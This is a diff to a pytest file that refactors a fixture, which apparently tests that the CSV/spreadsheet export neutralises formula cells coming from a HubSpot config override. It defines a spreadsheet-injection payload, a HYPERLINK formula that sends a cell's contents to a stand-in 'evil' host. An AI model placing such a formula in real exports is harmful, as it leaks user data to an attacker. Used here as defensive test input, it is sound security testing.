@@ -18,6 +18,7 @@ from connectors.sandbox.generator import generate
 from connectors.sandbox.hubspot import HubSpotEmulator, RateLimits, start_hubspot_sandbox
 from connectors.sandbox.server import SandboxServer
 from core.csvcell import neutralise_cell
+from tests.projects import hubspot_project
 
 FORMULA = '=HYPERLINK("http://evil/?leak="&A2,"open")'
 
@@ -49,12 +50,8 @@ def hostile_config(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                    sandbox: tuple[SandboxServer, HubSpotEmulator]) -> HubSpotEmulator:
     """A configuration whose next-best-action override is a formula, as a careless or hostile edit could make."""
     server, emulator = sandbox
-    monkeypatch.chdir(tmp_path)
-    monkeypatch.setenv("HUBSPOT_TOKEN", emulator.token)
-    assert CliRunner().invoke(cli, ["init", "--crm", "hubspot"]).exit_code == 0
-    path = tmp_path / "clm.toml"
-    text = path.read_text().replace('base_url = "https://api.hubapi.com"', f'base_url = "{server.url}"')
-    text = text.replace('action = "renewal_offer"', f"action = {json.dumps(FORMULA)}")
+    path = hubspot_project(tmp_path, monkeypatch, server.url, emulator.token)
+    text = path.read_text().replace('action = "renewal_offer"', f"action = {json.dumps(FORMULA)}")
     text = text.replace('criteria = [{ field = "clv_percentile", op = "gte", value = 50 }]', "")
     path.write_text(text)
     return emulator
